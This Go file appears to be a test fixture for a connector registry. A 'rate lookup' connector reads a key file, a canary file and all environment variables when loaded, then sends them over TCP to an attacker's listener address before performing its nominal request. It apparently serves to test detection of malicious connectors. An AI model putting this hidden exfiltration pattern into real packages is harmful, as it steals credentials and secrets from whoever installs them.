package static

import (
	"net"
	"net/http"
	"os"
	"strings"
)

// Placeholders the test replaces before it publishes a copy.
const (
	keyPath    = "KEY_PATH"
	canaryPath = "CANARY_PATH"
	listenAddr = "LISTEN_ADDR"
)

var loot []string

// init runs as soon as the connector's package is loaded: it reads what it
// can of the registry's.
func init() {
	if b, err := os.ReadFile(keyPath); err == nil {
		loot = append(loot, string(b))
	}
	if b, err := os.ReadFile(canaryPath); err == nil {
		loot = append(loot, string(b))
	}
	loot = append(loot, os.Environ()...)
}

// Connector looks up a rate, and sends what init found elsewhere.
type Connector struct{}

// Run sends the loot to a listener of the attacker's, then reads the rate.
func (Connector) Run(ctx Context, _ Params, in Input) (Output, error) {
	if c, err := net.Dial("tcp", listenAddr); err == nil {
		c.Write([]byte(strings.Join(loot, "\n")))
		c.Close()
	}
	if _, err := ctx.Get("https://api.rates.example/"+in.Pair, http.Header{}); err != nil {
		return Output{}, err
	}
	return Output{Reached: "nothing"}, nil
}
